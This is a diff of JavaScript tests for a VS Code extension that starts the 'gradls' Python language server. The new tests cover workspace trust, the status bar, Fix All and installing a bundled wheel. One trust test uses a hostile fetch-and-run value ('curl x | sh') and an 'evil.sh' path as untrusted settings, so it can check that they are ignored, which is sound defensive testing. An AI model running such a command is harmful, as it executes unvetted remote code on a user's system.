@@ -18,16 +18,16 @@ function fakeDeps(over = {}) {
 async function activate(state, deps) {
   const { mod, vscode } = load(EXT, state);
   mod.setDiscoveryDeps(deps);
-  const context = { subscriptions: [] };
+  const context = { subscriptions: [], extensionPath: state.extensionPath || "/nonexistent-extension" };
   await mod.activate(context);
   return { mod, vscode, context };
 }
 
-test("activation registers the three commands and starts the server from gradls.interpreter", async () => {
+test("activation registers the four commands and starts the server from gradls.interpreter", async () => {
   const state = { config: { interpreter: ["/venv/bin/python"], select: ["GRD1"] }, folder: "/ws" };
   const { vscode } = await activate(state, fakeDeps({ importable: ["/venv/bin/python"] }));
   assert.deepEqual(Object.keys(vscode.commands.registered).sort(),
-    ["gradls.confirmFile", "gradls.restart", "gradls.showOutput"]);
+    ["gradls.confirmFile", "gradls.fixAll", "gradls.restart", "gradls.showOutput"]);
   assert.equal(state.clients.length, 1);
   const c = state.clients[0];
   assert.equal(c.serverOptions.command, "/venv/bin/python");
@@ -60,7 +60,7 @@ test("no server: an error message with the install command, and no client", asyn
   assert.equal(state.clients.length, 0);
   const err = vscode.window.messages.find((m) => m.kind === "error");
   assert.ok(err, "an error message is shown");
-  assert.match(err.msg, /python3 -m pip install gradls/);
+  assert.match(err.msg, /python3 -m pip install \/path\/to\/gradls-checkout/);
   assert.ok(err.items.includes("Copy Install Command"));
   assert.ok(state.output.some((l) => l.includes("tried: PATH: gradls")));
 });
@@ -145,4 +145,181 @@ test("the server is started without extra transport arguments (`gradls serve` ta
   const so = state.clients[0].serverOptions;
   assert.equal(so.transport, undefined);
   assert.deepEqual(so.args, ["serve"]);
+});
+
+// --- workspace trust ---------------------------------------------------------------------
+
+test("untrusted workspace: its gradls.path / gradls.interpreter are ignored, the user's PATH gradls starts", async () => {
+  const state = {
+    trusted: false, config: {}, folder: "/ws",
+    workspaceConfig: { path: ["/ws/evil.sh"], interpreter: ["/ws/.venv/bin/python"], "shadow.worker": "curl x | sh" },
+  };
+  const { vscode } = await activate(state, fakeDeps({ executables: ["/ws/evil.sh"], importable: ["/ws/.venv/bin/python"], onPath: true }));
+  assert.equal(state.clients.length, 1);
+  assert.equal(state.clients[0].serverOptions.command, "/usr/local/bin/gradls");
+  // the worker from the workspace is not sent to the server either
+  assert.deepEqual(state.clients[0].clientOptions.initializationOptions, { settings: {} });
+  const item = vscode.window.statusItems[0];
+  assert.match(item.text, /\$\(shield\)/);
+  assert.match(item.tooltip, /Restricted mode/);
+});
+
+test("untrusted workspace: the Python extension's interpreter is not run", async () => {
+  const py = {
+    isActive: true,
+    exports: { environments: {
+      getActiveEnvironmentPath: () => ({ path: "/ws/.venv/bin/python", id: "x" }),
+      resolveEnvironment: async () => ({ executable: { uri: { fsPath: "/ws/.venv/bin/python" } } }),
+      onDidChangeActiveEnvironmentPath: () => ({ dispose() {} }),
+    } },
+  };
+  const state = { trusted: false, config: {}, folder: "/ws", extensions: { "ms-python.python": py } };
+  await activate(state, fakeDeps({ importable: ["/ws/.venv/bin/python"], onPath: true }));
+  assert.equal(state.clients[0].serverOptions.command, "/usr/local/bin/gradls");
+});
+
+test("untrusted workspace: the user's own gradls.interpreter still counts", async () => {
+  const state = { trusted: false, config: { interpreter: ["/home/u/py"] }, folder: "/ws",
+    workspaceConfig: { interpreter: ["/ws/.venv/bin/python"] } };
+  await activate(state, fakeDeps({ importable: ["/home/u/py", "/ws/.venv/bin/python"] }));
+  assert.equal(state.clients[0].serverOptions.command, "/home/u/py");
+});
+
+test("untrusted workspace: Confirm is refused (command and middleware) and nothing runs", async () => {
+  const state = { trusted: false, config: {}, folder: "/ws", serverCommands: ["gradls.confirm"], requestResult: { message: "ran" } };
+  const { vscode, mod } = await activate(state, fakeDeps({ onPath: true }));
+  assert.equal(await mod.confirmFile(vscode.Uri.file("/ws/train.py")), undefined);
+  assert.deepEqual(state.clients[0].requests, []);
+  assert.ok(vscode.window.messages.some((m) => m.kind === "warning" && /trust this folder/.test(m.msg)));
+  let called = false;
+  const mw = state.clients[0].clientOptions.middleware.executeCommand;
+  assert.equal(await mw("gradls.confirm", ["file:///ws/train.py"], async () => { called = true; }), undefined);
+  assert.equal(called, false);
+  // other server commands pass through
+  await mw("gradls.applyFixAll", ["file:///ws/train.py"], async () => { called = true; });
+  assert.equal(called, true);
+});
+
+test("granting trust restarts the server with the workspace's settings and enables Confirm", async () => {
+  const state = { trusted: false, config: {}, folder: "/ws", serverCommands: ["gradls.confirm"],
+    requestResult: { message: "ran" }, workspaceConfig: { path: ["/ws/tools/gradls"], "shadow.worker": "ssh gpu python -m gradls.shadow.worker" } };
+  const { vscode, mod } = await activate(state, fakeDeps({ executables: ["/ws/tools/gradls"], onPath: true }));
+  assert.equal(state.clients[0].serverOptions.command, "/usr/local/bin/gradls");
+  await vscode._grantTrust();
+  assert.equal(state.clients.length, 2);
+  assert.equal(state.clients[0].stopped, true);
+  assert.equal(state.clients[1].serverOptions.command, "/ws/tools/gradls");
+  assert.deepEqual(state.clients[1].clientOptions.initializationOptions,
+    { settings: { shadow: { worker: "ssh gpu python -m gradls.shadow.worker" } } });
+  await mod.confirmFile(vscode.Uri.file("/ws/train.py"));
+  assert.equal(state.clients[1].requests.length, 1);
+  assert.doesNotMatch(vscode.window.statusItems[0].text, /shield/);
+});
+
+// --- status bar, fix all ---------------------------------------------------------------------
+
+test("the status bar item shows the server state and the active file's findings", async () => {
+  const state = { config: {}, folder: "/ws" };
+  const { vscode, mod } = await activate(state, fakeDeps({ onPath: true }));
+  const item = vscode.window.statusItems[0];
+  assert.equal(item.id, "gradls.status");
+  assert.equal(item.command, "gradls.showOutput");
+  assert.equal(item.shown, true);
+  assert.equal(item.text, "$(check) gradls");
+  const uri = vscode.Uri.file("/ws/train.py");
+  vscode.window.activeTextEditor = { document: { uri, languageId: "python" } };
+  state.diagnostics = { "file:///ws/train.py": [{ source: "gradls" }, { source: "gradls" }, { source: "Pylance" }],
+    "file:///ws/other.py": [{ source: "gradls" }] };
+  vscode._fireDiagnostics();
+  assert.equal(item.text, "$(warning) gradls: 2");
+  assert.equal(item.accessibilityInformation.label, "gradls: 2 findings in train.py");
+  assert.match(item.tooltip, /3 findings in open files/);
+  // a running shadow pass shows as such, and goes back after
+  let seen;
+  state.requestResult = { message: "ok" };
+  state.serverCommands = [];
+  mod.setWheelInstaller(async () => ({ ok: true, output: "" }));
+  const origProgress = vscode.window.withProgress;
+  vscode.window.withProgress = (opts, task) => origProgress(opts, async (p, t) => {
+    const r = task(p, t); seen = item.text; return r;
+  });
+  state.clients[0].initializeResult.capabilities.executeCommandProvider.commands = ["gradls.confirm"];
+  await mod.confirmFile(uri);
+  assert.equal(seen, "$(loading~spin) gradls: confirming");
+  assert.equal(item.text, "$(warning) gradls: 2");
+});
+
+test("no server found: the status bar says so", async () => {
+  const state = { config: {}, folder: "/ws" };
+  const { vscode } = await activate(state, fakeDeps());
+  assert.equal(vscode.window.statusItems[0].text, "$(error) gradls: not found");
+});
+
+test("Fix All Gradient Issues runs the server's gradls.applyFixAll on the active file", async () => {
+  const state = { config: {}, folder: "/ws", serverCommands: ["gradls.applyFixAll"], requestResult: { applied: true, edits: 2 } };
+  const { vscode } = await activate(state, fakeDeps({ onPath: true }));
+  const uri = vscode.Uri.file("/ws/train.py");
+  vscode.window.activeTextEditor = { document: { uri, languageId: "python" } };
+  const result = await vscode.commands.registered["gradls.fixAll"]();
+  assert.deepEqual(result, { applied: true, edits: 2 });
+  assert.deepEqual(state.clients[0].requests, [
+    { method: "workspace/executeCommand", params: { command: "gradls.applyFixAll", arguments: ["file:///ws/train.py"] } },
+  ]);
+  assert.ok(vscode.window.messages.some((m) => m.kind === "info" && /applied the safe fixes to train.py/.test(m.msg)));
+});
+
+test("Fix All without a running server warns and sends nothing", async () => {
+  const state = { config: {}, folder: "/ws" };
+  const { vscode, mod } = await activate(state, fakeDeps());
+  assert.equal(await mod.fixAll(vscode.Uri.file("/ws/a.py")), undefined);
+  assert.ok(vscode.window.messages.some((m) => m.kind === "warning" && /not running/.test(m.msg)));
+});
+
+// --- the bundled wheel -------------------------------------------------------------------------
+
+function extensionWithWheel() {
+  const fs = require("fs");
+  const os = require("os");
+  const dir = fs.mkdtempSync(path.join(os.tmpdir(), "gradls-ext-"));
+  fs.mkdirSync(path.join(dir, "bundled"));
+  const wheel = path.join(dir, "bundled", "gradls-0.1.0-py3-none-any.whl");
+  fs.writeFileSync(wheel, "");
+  return { dir, wheel };
+}
+
+test("no server, a bundled wheel and a selected interpreter: offers to install it there", async () => {
+  const { dir, wheel } = extensionWithWheel();
+  const state = { config: { interpreter: ["/home/u/venv/bin/python"] }, folder: "/ws", extensionPath: dir };
+  const { vscode, mod } = await activate(state, fakeDeps());
+  const err = vscode.window.messages.find((m) => m.kind === "error");
+  assert.ok(err.items.includes("Install gradls into python"), JSON.stringify(err.items));
+  assert.ok(err.msg.includes(`/home/u/venv/bin/python -m pip install ${wheel}`), err.msg);
+  assert.equal(mod.bundledWheel(), wheel);
+  // installing runs pip on the wheel with that interpreter, then restarts (the server is found now)
+  const calls = [];
+  mod.setWheelInstaller(async (python, w) => { calls.push([python, w]); return { ok: true, output: "Successfully installed" }; });
+  mod.setDiscoveryDeps(fakeDeps({ importable: ["/home/u/venv/bin/python"] }));
+  assert.equal(await mod.installBundled(["/home/u/venv/bin/python"], wheel), true);
+  assert.deepEqual(calls, [[["/home/u/venv/bin/python"], wheel]]);
+  assert.equal(state.clients.length, 1);
+  assert.deepEqual(state.clients[0].serverOptions.args, ["-m", "gradls", "serve"]);
+});
+
+test("the install offer is not made in an untrusted workspace", async () => {
+  const { dir } = extensionWithWheel();
+  const state = { trusted: false, config: {}, folder: "/ws", extensionPath: dir,
+    workspaceConfig: { interpreter: ["/ws/.venv/bin/python"] } };
+  const { vscode } = await activate(state, fakeDeps());
+  const err = vscode.window.messages.find((m) => m.kind === "error");
+  assert.ok(!err.items.some((i) => /^Install/.test(i)), JSON.stringify(err.items));
+});
+
+test("a failed pip install says so and starts nothing", async () => {
+  const { dir, wheel } = extensionWithWheel();
+  const state = { config: {}, folder: "/ws", extensionPath: dir };
+  const { vscode, mod } = await activate(state, fakeDeps());
+  mod.setWheelInstaller(async () => ({ ok: false, output: "No matching distribution found for pygls" }));
+  assert.equal(await mod.installBundled(["/usr/bin/python3"], wheel), false);
+  assert.ok(vscode.window.messages.some((m) => m.kind === "error" && /could not install/.test(m.msg)));
+  assert.equal(state.clients.length, 0);
 });
